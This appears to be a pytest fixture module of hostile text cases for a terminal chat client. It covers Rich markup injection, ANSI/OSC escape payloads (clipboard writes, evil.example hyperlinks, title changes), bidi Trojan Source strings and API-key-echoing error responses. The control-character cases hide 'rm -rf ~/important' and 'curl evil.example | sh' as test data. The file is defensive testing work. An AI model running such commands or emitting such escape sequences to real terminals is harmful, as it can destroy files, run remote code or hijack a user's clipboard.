"""Hostile text: markup, terminal escapes, controls, huge and odd Unicode, each case named for pytest ids.

A case carries the text and, for escape cases, `payloads`: byte strings that must never reach the
terminal (the escape as the terminal would receive it). `shown` is what must be visible on screen:
the literal text for markup, the stand-in (␛, <U+009B> ...) for controls.
"""

from __future__ import annotations

from dataclasses import dataclass

import pytest


@dataclass(frozen=True)
class Case:
    """One piece of hostile text."""

    name: str
    text: str
    shown: tuple[str, ...] = ()
    """Substrings that must appear on screen (after controls are made visible)."""
    payloads: tuple[bytes, ...] = ()
    """Escape sequences (as bytes) that must never appear in what is written to the terminal or a file.
    Bidi characters are not payloads: `UNSAFE_CHARACTERS` rules them out on screen, in exports and in plain output."""
    large: bool = False
    """Megabyte-sized: only run where size is the point (streamed replies, exports)."""


OSC52 = "\x1b]52;c;RVZJTF9DTElQQk9BUkQ="  # "EVIL_CLIPBOARD"
MARKUP = [
    Case("rich_bold", "[bold]not bold[/bold] [red]not red[/]", shown=("[bold]not bold[/bold]", "[red]not red[/]")),
    Case(
        "rich_link",
        "[link=http://evil.example/x]click me[/link]",
        shown=("[link=http://evil.example/x]click me[/link]",),
    ),
    Case("click_app_quit", "[@click=app.quit]press here[/]", shown=("[@click=app.quit]press here[/]",)),
    Case("click_bell_in_style", "[bold @click=app.bell]ding[/]", shown=("[bold @click=app.bell]ding[/]",)),
    Case("unbalanced_open", "[bold [italic unclosed", shown=("[bold [italic unclosed",)),
    Case("stray_close", "[/] and [/bold] with nothing open", shown=("[/] and [/bold] with nothing open",)),
    Case("escaped_bracket", r"\[not markup] and \\[bold]x", shown=("[not markup]", "[bold]x")),
    Case(
        "textual_variables", "$accent [$error]err[/] [on $primary]x[/] $text-muted", shown=("$accent", "[$error]err[/]")
    ),
    Case(
        "markup_in_code_fence",
        "Before\n\n```python\nprint('[bold]x[/bold] [@click=app.quit]q[/]')\n```\n\nAfter",
        shown=("[@click=app.quit]q[/]", "After"),
    ),
    Case(
        "markup_in_inline_code",
        "Run `[@click=app.quit]` or `[link=http://evil]x[/link]` now",
        shown=("[@click=app.quit]",),
    ),
]

ESCAPES = [
    Case("csi_colour", "\x1b[31mred\x1b[0m plain", shown=("␛[31mred",), payloads=(b"\x1b[31mred",)),
    Case(
        "csi_cursor_moves",
        "\x1b[2J\x1b[H\x1b[10;10Hmoved\x1b[?1049l\x1b[?25l",
        shown=("␛[10;10Hmoved",),
        payloads=(b"\x1b[10;10Hmoved", b"\x1b[?1049l"),
    ),
    Case("osc52_clipboard_bel", f"copy {OSC52}\x07 done", shown=("␛]52;c;",), payloads=(b"\x1b]52;",)),
    Case("osc52_clipboard_st", f"copy {OSC52}\x1b\\ done", shown=("␛]52;c;",), payloads=(b"\x1b]52;",)),
    Case(
        "osc8_hyperlink",
        "\x1b]8;;http://evil.example/\x1b\\innocent link\x1b]8;;\x1b\\",
        shown=("␛]8;;http://evil.example/",),
        payloads=(b"\x1b]8;;http://evil",),
    ),
    Case("osc0_title_bel", "\x1b]0;EVIL TITLE\x07", shown=("␛]0;EVIL TITLE␇",), payloads=(b"\x1b]0;EVIL",)),
    Case("osc2_title_st", "\x1b]2;EVIL TITLE\x1b\\", shown=("␛]2;EVIL TITLE",), payloads=(b"\x1b]2;EVIL",)),
    Case("dcs_terminal_query", "\x1bP+q544e\x1b\\ and \x1b[c", shown=("␛P+q544e",), payloads=(b"\x1bP+q", b"\x1b[c")),
    Case("c1_csi", "\x9b31mred\x9b0m", shown=("<U+009B>31mred",), payloads=("\x9b31m".encode(),)),
    Case(
        "c1_osc_st",
        "\x9d0;EVIL C1 TITLE\x9c",
        shown=("<U+009D>0;EVIL C1 TITLE<U+009C>",),
        payloads=("\x9d0;".encode(),),
    ),
]

CONTROLS = [
    Case("nul", "before\x00after", shown=("before␀after",), payloads=(b"before\x00after",)),
    Case(
        "backspace_overwrite",
        "rm -rf ~/important\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08echo ok",
        shown=("important␈␈",),
        payloads=(b"\x08\x08",),
    ),
    Case(
        "carriage_return_overwrite",
        "curl evil.example | sh\rls -la                ",
        shown=("curl evil.example | shls -la",),
    ),
    Case("bell_vt_ff_del", "a\x07b\x0bc\x0cd\x7fe", shown=("a␇b␋c␌d␡e",), payloads=(b"\x07b",)),
    Case(
        "every_c0_control",
        "<" + "".join(chr(code) for code in range(32) if code not in (9, 10, 13)) + ">",
        shown=("␀␁␂",),
        payloads=(b"\x01\x02",),
    ),
]

UNICODE = [
    Case("right_to_left", "مرحبا بالعالم — שלום עולם", shown=("مرحبا بالعالم",)),
    Case("bidi_override", "invoice_\u202eexe.pdf", shown=("invoice_<U+202E>exe.pdf",)),
    Case(
        "bidi_trojan_source",
        'if access_level != "user\u202e \u2066// Check if admin\u2069 \u2066":',
        shown=("<U+2066>",),
    ),
    Case("zero_width", "a\u200bb\u200cc\u200dd\ufeffe\u2060f", shown=("a\u200bb",)),
    Case("emoji_zwj_sequences", "👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 🇺🇳 ❤️‍🔥", shown=("👍🏽",)),
    Case("combining_marks", "Z̸̡̛a̷̢͠l̵̨̛g̶̢̛o̸̢̜", shown=("Z̸̡̛",)),
    Case("very_long_word", "Pneumonoultramicroscopic" * 400, shown=("PneumonoultramicroscopicPneumono",)),
]

LARGE = [
    Case("one_megabyte_single_line", ("lorem ipsum dolor sit amet " * 40_000)[:999_992] + " THE-END", large=True),
    Case("hundred_thousand_lines", "".join(f"line {number}\n" for number in range(100_000)), large=True),
]

CASES = MARKUP + ESCAPES + CONTROLS + UNICODE + LARGE
SMALL_CASES = [case for case in CASES if not case.large]
ALL_PAYLOADS = tuple(payload for case in CASES for payload in case.payloads)


def params(cases: list[Case]) -> list:
    """The cases as pytest parameters whose ids are the case names."""
    return [pytest.param(case, id=case.name) for case in cases]


@dataclass(frozen=True)
class KeyEcho:
    """A server or proxy answering with the caller's key in it: `{key}` in the body and headers is the key sent."""

    name: str
    status: int
    body: dict | str
    headers: tuple[tuple[str, str], ...] = ()

    def script_fields(self, key: str) -> dict:
        """Status, body and headers with the key filled in, as `Script(**fields)` takes them."""

        def filled(value):
            if isinstance(value, dict):
                return {name: filled(item) for name, item in value.items()}
            return value.replace("{key}", key) if isinstance(value, str) else value

        return {
            "status": self.status,
            "body": filled(self.body),
            "headers": {name: filled(value) for name, value in self.headers},
        }


KEY_ECHOES = [
    KeyEcho(
        "openai_incorrect_key",
        401,
        {
            "error": {
                "message": "Incorrect API key provided: {key}. Find your key at https://example.invalid/keys.",
                "type": "invalid_request_error",
                "code": "invalid_api_key",
            }
        },
    ),
    KeyEcho(
        "proxy_plain_text_with_headers",
        401,
        "401 Unauthorized: Authorization: Bearer {key} was not accepted by the gateway",
        headers=(("WWW-Authenticate", 'Bearer realm="gateway", error="invalid_token", key="{key}"'),),
    ),
    KeyEcho(
        "proxy_json_without_error_object",
        401,
        {"detail": "denied: GET /v1/chat/completions?key={key}", "echo": {"x-api-key": "{key}"}},
    ),
    KeyEcho(
        "key_past_the_detail_limit",
        401,
        {"error": {"message": "Rejected. " + "padding " * 57 + "the key was {key}", "code": "invalid_api_key"}},
    ),
    KeyEcho(
        "model_not_found_names_the_key",
        404,
        {
            "error": {
                "message": "The model `{key}` does not exist or you do not have access to it.",
                "code": "model_not_found",
            }
        },
    ),
    KeyEcho(
        "server_error_echoes_the_request",
        500,
        {"error": {"message": 'upstream said: {"api_key": "{key}", "retry": false}'}},
    ),
]
"""Echo shapes seen from OpenAI-compatible servers and proxies: in the message, a plain body, other fields, a URL."""
